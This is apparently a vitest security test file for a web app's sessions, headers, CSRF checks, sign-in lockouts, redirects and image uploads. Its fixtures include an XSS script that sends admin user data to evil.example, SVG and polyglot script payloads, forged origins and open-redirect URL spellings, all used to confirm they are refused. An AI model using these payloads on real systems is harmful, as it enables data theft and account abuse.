import JSZip from "jszip";
import pg from "pg";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { forwardItem, image, jsonl, zipOf } from "../fixtures/import-batches";
import { sessionCookie, startAppServer, type AppServer } from "./app-server";
import { signInWithPassword } from "./http-session";
import { freePort } from "./ports";
import { createDatabase, dropDatabase } from "./pg-cluster";
import { createStudyRow, createUsers, migrate, type SeededUser } from "./seed";

/**
 * Sessions and headers (SECURITY.md), against the production build: the page and API
 * headers (CSP with a per-request nonce, nosniff, Referrer-Policy, no framing), CSRF refusals,
 * the session cookie's flags over http and over https, sign-in lockouts, body size limits, and
 * images that cannot carry a script in or out.
 */

const serverUrl = process.env.YARDSTICK_TEST_PG_URL ?? "postgresql://postgres@127.0.0.1:5432/postgres";
const dbName = `yardstick_faults_security_${process.pid}_${Date.now().toString(36)}`;

let databaseUrl: string;
let pool: pg.Pool;
let server: AppServer;
let admin: SeededUser;
let annotator: SeededUser;
let studySlug: string;

beforeAll(async () => {
  databaseUrl = await createDatabase(serverUrl, dbName);
  await migrate(databaseUrl);
  pool = new pg.Pool({ connectionString: databaseUrl, max: 3 });
  [admin] = await createUsers(pool, 1, "ADMIN", "sec");
  [annotator] = await createUsers(pool, 1, "ANNOTATOR", "sec");
  studySlug = `sec-${Date.now().toString(36)}`;
  await createStudyRow(pool, studySlug, "Security");
  server = await startAppServer({ databaseUrl });
});

afterAll(async () => {
  await server?.kill("SIGKILL");
  await pool?.end();
  await dropDatabase(serverUrl, dbName);
});

function directives(policy: string | null): Map<string, string[]> {
  return new Map(
    (policy ?? "")
      .split(";")
      .map((part) => part.trim().split(/\s+/))
      .filter((parts) => parts[0])
      .map(([name, ...values]) => [name, values]),
  );
}

describe("headers", () => {
  it("pages carry a nonce-based CSP (a fresh nonce each time, on every script), nosniff, a Referrer-Policy and no framing", async () => {
    const first = await fetch(`${server.baseUrl}/signin`);
    const second = await fetch(`${server.baseUrl}/signin`);
    const policy = directives(first.headers.get("content-security-policy"));
    const scriptSrc = policy.get("script-src") ?? [];
    const nonce = scriptSrc.find((value) => value.startsWith("'nonce-"))?.slice(7, -1);
    expect(nonce).toBeTruthy();
    expect(scriptSrc).toContain("'strict-dynamic'");
    expect(scriptSrc).not.toContain("'unsafe-inline'");
    expect(scriptSrc).not.toContain("'unsafe-eval'");
    expect(policy.get("frame-ancestors")).toEqual(["'none'"]);
    expect(policy.get("object-src")).toEqual(["'none'"]);
    expect(policy.get("img-src")).toEqual(["'self'", "data:", "blob:"]);
    expect(second.headers.get("content-security-policy")).not.toBe(first.headers.get("content-security-policy"));
    const html = await first.text();
    const scripts = [...html.matchAll(/<script\b[^>]*>/g)].map((match) => match[0]);
    expect(scripts.length).toBeGreaterThan(2);
    for (const tag of scripts) expect(tag, "every script carries the nonce").toContain(`nonce="${nonce}"`);
    expect(first.headers.get("x-content-type-options")).toBe("nosniff");
    expect(first.headers.get("referrer-policy")).toBe("same-origin");
    expect(first.headers.get("x-frame-options")).toBe("DENY");
    expect(first.headers.get("x-powered-by")).toBeNull();
  });

  it("API responses are sandboxed: nothing in them can run, even when opened directly", async () => {
    const response = await fetch(`${server.baseUrl}/api/studies`, { headers: { cookie: await sessionCookie(admin.id) } });
    expect(response.status).toBe(200);
    expect(response.headers.get("content-security-policy")).toBe("default-src 'none'; frame-ancestors 'none'; sandbox");
    expect(response.headers.get("x-content-type-options")).toBe("nosniff");
  });
});

describe("CSRF", () => {
  it("refuses state-changing API requests from other sites (Origin or Sec-Fetch-Site), including the uploads", async () => {
    const cookie = await sessionCookie(admin.id);
    const body = JSON.stringify({ title: "Forged", slug: `forged-${Date.now().toString(36)}`, overlap: 1 });
    const forged: Array<Record<string, string>> = [
      { origin: "https://evil.example" },
      { "sec-fetch-site": "cross-site" },
      { "sec-fetch-site": "same-site", origin: "https://sub.127.0.0.1.nip.io" },
      { origin: "null" },
    ];
    for (const headers of forged) {
      const response = await fetch(`${server.baseUrl}/api/studies`, {
        method: "POST",
        body,
        headers: { cookie, "content-type": "application/json", ...headers },
      });
      expect(response.status, JSON.stringify(headers)).toBe(403);
      expect((await response.json()).error).toMatch(/^Refused .*: changes are accepted only from Yardstick's own pages$/);
    }
    const form = new FormData();
    form.set("study", studySlug);
    for (const path of ["/api/admin/import", `/api/studies/${studySlug}/model-runs`]) {
      const response = await fetch(`${server.baseUrl}${path}`, { method: "POST", body: form, headers: { cookie, origin: "https://evil.example" } });
      expect(response.status, path).toBe(403);
    }
    expect((await pool.query(`SELECT count(*)::int AS n FROM "Study" WHERE title = 'Forged'`)).rows[0].n).toBe(0);
    // the same request from the site's own page, and from a client that is not a browser, goes through
    const own = await fetch(`${server.baseUrl}/api/studies`, {
      method: "POST",
      body,
      headers: { cookie, "content-type": "application/json", origin: server.baseUrl, "sec-fetch-site": "same-origin" },
    });
    expect(own.status).toBe(201);
    // reading stays open to links from elsewhere (GET changes nothing)
    expect((await fetch(`${server.baseUrl}/api/studies`, { headers: { cookie, "sec-fetch-site": "cross-site" } })).status).toBe(200);
  });

  it("next-auth's own endpoints keep their CSRF token: a forged sign-in sets no session", async () => {
    const forged = await fetch(`${server.baseUrl}/api/auth/callback/credentials`, {
      method: "POST",
      redirect: "manual",
      headers: { "content-type": "application/x-www-form-urlencoded", origin: "https://evil.example" },
      body: new URLSearchParams({ email: admin.email, password: admin.password, json: "true" }),
    });
    expect(forged.headers.getSetCookie().some((cookie) => cookie.includes("session-token"))).toBe(false);
  });
});

describe("the session cookie", () => {
  it("is httpOnly and SameSite=Lax over http", async () => {
    const result = await signInWithPassword(server.baseUrl, annotator.email, annotator.password);
    expect(result.error).toBeNull();
    const cookie = result.setCookies.find((c) => c.startsWith("next-auth.session-token="))!;
    expect(cookie).toMatch(/; HttpOnly/i);
    expect(cookie).toMatch(/; SameSite=Lax/i);
    expect(cookie).toMatch(/; Path=\//i);
    expect(cookie).not.toMatch(/; Secure/i);
    const signedIn = await fetch(`${server.baseUrl}/api/annotate/studies`, { headers: { cookie: result.sessionCookie! } });
    expect(signedIn.status).toBe(200);
  });

  it("is also Secure, with the __Secure- prefix, when NEXTAUTH_URL is https", async () => {
    const port = await freePort();
    const secured = await startAppServer({ databaseUrl, port, env: { NEXTAUTH_URL: `https://127.0.0.1:${port}` } });
    try {
      const result = await signInWithPassword(secured.baseUrl, annotator.email, annotator.password, { "x-forwarded-proto": "https" });
      expect(result.error).toBeNull();
      const cookie = result.setCookies.find((c) => c.startsWith("__Secure-next-auth.session-token="));
      expect(cookie, result.setCookies.join("\n")).toBeDefined();
      expect(cookie).toMatch(/; Secure/i);
      expect(cookie).toMatch(/; HttpOnly/i);
      expect(cookie).toMatch(/; SameSite=Lax/i);
      const csrf = result.setCookies.find((c) => c.startsWith("__Host-next-auth.csrf-token="));
      if (csrf) expect(csrf).toMatch(/; Secure/i);
      expect(directives((await fetch(`${secured.baseUrl}/signin`)).headers.get("content-security-policy")).has("upgrade-insecure-requests")).toBe(true);
      // HSTS on pages, API answers and static files alike; none over http
      for (const path of ["/signin", "/api/auth/session", "/api/annotate/studies", "/favicon.ico"]) {
        expect((await fetch(`${secured.baseUrl}${path}`)).headers.get("strict-transport-security"), path).toBe("max-age=63072000");
      }
      expect((await fetch(`${server.baseUrl}/signin`)).headers.get("strict-transport-security")).toBeNull();
    } finally {
      await secured.kill();
    }
  });
});

describe("sign-in rate limiting over HTTP", () => {
  it("locks one network out of an account after 5 wrong passwords and says for how long, even for the right one", async () => {
    const [target] = await createUsers(pool, 1, "ANNOTATOR", "locked");
    const outcomes: Array<string | null> = [];
    for (let i = 0; i < 5; i++) outcomes.push((await signInWithPassword(server.baseUrl, target.email, `wrong-${i}`)).error);
    expect(outcomes).toEqual(["CredentialsSignin", "CredentialsSignin", "CredentialsSignin", "CredentialsSignin", "locked:pair:15"]);
    const right = await signInWithPassword(server.baseUrl, target.email, target.password);
    expect(right.error).toBe("locked:pair:15");
    expect(right.sessionCookie).toBeNull();
    // the sign-in page words it (and only this shape of error)
    const page = await (await fetch(`${server.baseUrl}/signin?error=locked:pair:15`)).text();
    expect(page).toContain("Too many failed sign-ins for this account from your network: it is locked here for now. Try again in 15 minutes.");
    const stored = await pool.query(`SELECT "passwordHash" FROM "User" WHERE id = $1`, [target.id]);
    expect(stored.rows[0].passwordHash).toMatch(/^\$argon2id\$/);
  });

  it("takes the address from the connection, not from a client's X-Forwarded-For (no TRUST_PROXY)", async () => {
    const [target] = await createUsers(pool, 1, "ANNOTATOR", "spoof");
    const outcomes: Array<string | null> = [];
    for (let i = 0; i < 5; i++)
      outcomes.push(
        (
          await signInWithPassword(server.baseUrl, target.email, `wrong-${i}`, {
            "x-forwarded-for": `10.66.0.${i}`,
            "x-yardstick-peer-address": `10.77.0.${i}`,
          })
        ).error,
      );
    expect(outcomes.at(-1)).toBe("locked:pair:15");
    const rows = await pool.query(`SELECT key FROM "LoginThrottle" WHERE key LIKE '%10.66.%' OR key LIKE '%10.77.%'`);
    expect(rows.rows).toEqual([]);
    // and a client cannot lock someone else's address by naming it
    expect((await pool.query(`SELECT count(*)::int AS n FROM "LoginThrottle" WHERE key = $1`, [`pair:${target.email}|127.0.0.1`])).rows[0].n).toBe(1);
  });
});

describe("redirects after sign-in", () => {
  it("never sends the browser to another origin, however the callbackUrl is spelled", async () => {
    const cookie = await sessionCookie(admin.id);
    for (const callback of ["/%5Cexample.org", "/%5C/example.org", "//example.org", "https://example.org/", "/%09/example.org", "/.//example.org"]) {
      const response = await fetch(`${server.baseUrl}/signin?callbackUrl=${callback}`, { headers: { cookie }, redirect: "manual" });
      expect([303, 307, 308], callback).toContain(response.status);
      const target = new URL(response.headers.get("location") ?? "", server.baseUrl);
      expect(target.origin, `${callback} -> ${response.headers.get("location")}`).toBe(server.baseUrl);
    }
    const own = await fetch(`${server.baseUrl}/signin?callbackUrl=${encodeURIComponent("/research?x=1")}`, { headers: { cookie }, redirect: "manual" });
    expect(new URL(own.headers.get("location") ?? "", server.baseUrl).pathname).toBe("/research");
  });
});

describe("revocable sessions", () => {
  async function signOutWith(sessionCookieValue: string): Promise<void> {
    const csrf = await fetch(`${server.baseUrl}/api/auth/csrf`);
    const { csrfToken } = (await csrf.json()) as { csrfToken: string };
    const cookies = [sessionCookieValue, ...csrf.headers.getSetCookie().map((c) => c.split(";")[0])].join("; ");
    const response = await fetch(`${server.baseUrl}/api/auth/signout`, {
      method: "POST",
      redirect: "manual",
      headers: { "content-type": "application/x-www-form-urlencoded", cookie: cookies, origin: server.baseUrl },
      body: new URLSearchParams({ csrfToken, callbackUrl: `${server.baseUrl}/signin`, json: "true" }),
    });
    expect(response.status).toBeLessThan(400);
  }

  it("signing out ends the session everywhere: a copy of the cookie no longer works", async () => {
    const [user] = await createUsers(pool, 1, "ANNOTATOR", "signout");
    const laptop = (await signInWithPassword(server.baseUrl, user.email, user.password)).sessionCookie!;
    const phone = (await signInWithPassword(server.baseUrl, user.email, user.password)).sessionCookie!;
    expect((await fetch(`${server.baseUrl}/api/annotate/studies`, { headers: { cookie: phone } })).status).toBe(200);
    await signOutWith(laptop);
    for (const cookie of [laptop, phone]) {
      expect((await fetch(`${server.baseUrl}/api/annotate/studies`, { headers: { cookie } })).status).toBe(401);
      expect(await (await fetch(`${server.baseUrl}/api/auth/session`, { headers: { cookie } })).json()).toEqual({});
    }
    // the two busiest endpoints check through a cache of at most 5 s (SECURITY.md)
    await new Promise((resolve) => setTimeout(resolve, 5_500));
    const events = await fetch(`${server.baseUrl}/api/annotate/events`, {
      method: "POST",
      body: JSON.stringify({ events: [] }),
      headers: { cookie: phone, "content-type": "application/json", origin: server.baseUrl },
    });
    expect(events.status).toBe(401);
  });

  it("disabling a user ends their sessions: /api/auth/session no longer names them", async () => {
    const [user] = await createUsers(pool, 1, "ANNOTATOR", "disabled");
    const cookie = (await signInWithPassword(server.baseUrl, user.email, user.password)).sessionCookie!;
    expect(await (await fetch(`${server.baseUrl}/api/auth/session`, { headers: { cookie } })).json()).toMatchObject({ user: { email: user.email } });
    const patched = await fetch(`${server.baseUrl}/api/admin/users/${user.id}`, {
      method: "PATCH",
      body: JSON.stringify({ disabled: true }),
      headers: { cookie: await sessionCookie(admin.id), "content-type": "application/json", origin: server.baseUrl },
    });
    expect(patched.status).toBe(200);
    const session = await (await fetch(`${server.baseUrl}/api/auth/session`, { headers: { cookie } })).json();
    expect(session).toEqual({});
    expect(JSON.stringify(session)).not.toContain(user.email);
    await pool.query(`UPDATE "User" SET disabled = false WHERE id = $1`, [user.id]);
    expect((await fetch(`${server.baseUrl}/api/annotate/studies`, { headers: { cookie } })).status).toBe(401);
  });
});

describe("request body limits", () => {
  it("answers 413 for bodies over an endpoint's limit, declared or chunked, and 422 for bodies that are not JSON", async () => {
    const cookie = await sessionCookie(annotator.id);
    const big = JSON.stringify({ events: [{ assignmentId: "a", seq: 0, type: "page_hidden", payload: { pad: "x".repeat(2 * 1024 * 1024) }, clientTime: 1 }] });
    const declared = await fetch(`${server.baseUrl}/api/annotate/events`, {
      method: "POST",
      body: big,
      headers: { cookie, "content-type": "application/json" },
    });
    expect(declared.status).toBe(413);
    expect((await declared.json()).error).toContain("larger than 1 MiB");
    const bytes = new TextEncoder().encode(big);
    const stream = new ReadableStream<Uint8Array>({
      start(controller) {
        for (let offset = 0; offset < bytes.length; offset += 64 * 1024) controller.enqueue(bytes.subarray(offset, offset + 64 * 1024));
        controller.close();
      },
    });
    const chunked = await fetch(`${server.baseUrl}/api/annotate/responses`, {
      method: "POST",
      body: stream,
      headers: { cookie, "content-type": "application/json" },
      duplex: "half",
    } as RequestInit);
    expect(chunked.status).toBe(413);
    const notJson = await fetch(`${server.baseUrl}/api/annotate/responses`, {
      method: "POST",
      body: "{assignmentId: 1",
      headers: { cookie, "content-type": "application/json" },
    });
    expect(notJson.status).toBe(422);
    expect((await notJson.json()).error).toMatch(/^The request body is not JSON: /);
    const notForm = await fetch(`${server.baseUrl}/api/admin/import`, {
      method: "POST",
      body: "{}",
      headers: { cookie: await sessionCookie(admin.id), "content-type": "application/json" },
    });
    expect(notForm.status).toBe(422);
    expect((await notForm.json()).error).toContain("multipart/form-data");
  });
});

describe("next-auth's bodies", () => {
  it("answers 413 to a sign-in or sign-out body over 64 KiB, declared or chunked, and still signs in", async () => {
    const [user] = await createUsers(pool, 1, "ANNOTATOR", "authbody");
    const form = `csrfToken=x&email=a%40b.c&password=${"p".repeat(4 * 1024 * 1024)}`;
    const declared = await fetch(`${server.baseUrl}/api/auth/callback/credentials`, {
      method: "POST",
      body: form,
      headers: { "content-type": "application/x-www-form-urlencoded" },
    });
    expect(declared.status).toBe(413);
    const bytes = new TextEncoder().encode(form);
    const stream = new ReadableStream<Uint8Array>({
      start(controller) {
        for (let offset = 0; offset < 4 * 1024 * 1024; offset += 64 * 1024) controller.enqueue(bytes.subarray(offset, offset + 64 * 1024));
        controller.close();
      },
    });
    const chunked = await fetch(`${server.baseUrl}/api/auth/signout`, {
      method: "POST",
      body: stream,
      headers: { "content-type": "application/x-www-form-urlencoded" },
      duplex: "half",
    } as RequestInit);
    expect(chunked.status).toBe(413);
    expect((await signInWithPassword(server.baseUrl, user.email, user.password)).error).toBeNull();
  });
});

describe("uploaded images", () => {
  async function importZip(zip: Buffer): Promise<Response> {
    const form = new FormData();
    form.set("study", studySlug);
    form.append("files", new Blob([new Uint8Array(zip)]), "batch.zip");
    return fetch(`${server.baseUrl}/api/admin/import`, { method: "POST", body: form, headers: { cookie: await sessionCookie(admin.id) } });
  }
  const script = "<html><body><script>fetch('/api/admin/users').then(r=>r.text()).then(t=>location='https://evil.example/?'+t)</script></body></html>";

  it("refuses SVG, HTML and polyglots named .png, naming the file, line and field", async () => {
    const png = await image("poly");
    const cases: Record<string, Buffer> = {
      svg: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>`),
      html: Buffer.from(script),
      "png signature + html": Buffer.concat([png.subarray(0, 8), Buffer.from(script)]),
      "png + appended html": Buffer.concat([png, Buffer.from(script)]),
    };
    for (const [name, bytes] of Object.entries(cases)) {
      const zip = await zipOf({
        "img/start.png": await image("s"),
        "img/b.png": await image("b"),
        "img/evil.png": bytes,
        "items.jsonl": jsonl([forwardItem("evil", { candidates: ["img/evil.png", "img/b.png"] })]),
      });
      const response = await importZip(zip);
      const body = (await response.json()) as { error: string; details?: { errors: Array<{ file: string; line: number; field: string; message: string }> } };
      expect(response.status, name).toBe(422);
      expect(body.details?.errors[0], name).toMatchObject({ file: "items.jsonl", line: 1, field: "public.candidates[0]" });
      expect(body.details?.errors[0].message, name).toMatch(/^image "img\/evil.png" is not a (PNG, JPEG or WebP|usable PNG) image/);
    }
    expect((await pool.query(`SELECT count(*)::int AS n FROM "Asset"`)).rows[0].n).toBe(0);
  });

  it("serves stored images with their sniffed type, nosniff, a sandboxing CSP and an inline disposition", async () => {
    const zip = await zipOf({
      "img/start.png": await image("ok-s"),
      "img/a.jpg": await image("ok-a", "jpeg"),
      "img/b.webp": await image("ok-b", "webp"),
      "items.jsonl": jsonl([forwardItem("fine", { candidates: ["img/a.jpg", "img/b.webp"] })]),
    });
    expect((await importZip(zip)).status).toBe(201);
    const item = await pool.query(`SELECT public FROM "Item" WHERE "externalId" = 'fine'`);
    const urls: string[] = [item.rows[0].public.initialImage, ...item.rows[0].public.candidates];
    const types = [];
    for (const url of urls) {
      const response = await fetch(`${server.baseUrl}${url}`, { headers: { cookie: await sessionCookie(admin.id) } });
      expect(response.status).toBe(200);
      types.push(response.headers.get("content-type"));
      expect(response.headers.get("x-content-type-options")).toBe("nosniff");
      expect(response.headers.get("content-security-policy")).toContain("sandbox");
      expect(response.headers.get("content-disposition")).toMatch(/^inline; filename="[0-9a-f]{64}\.(png|jpeg|webp)"$/);
    }
    expect(types).toEqual(["image/png", "image/jpeg", "image/webp"]);
  });

  it("unpacks no zip inside a zip and leaves no file behind (the upload is read in memory)", async () => {
    const outer = new JSZip();
    outer.file("inner.zip", await zipOf({ "items.jsonl": jsonl([forwardItem("x")]) }));
    const response = await importZip(await outer.generateAsync({ type: "nodebuffer" }));
    expect(response.status).toBe(422);
  });
});
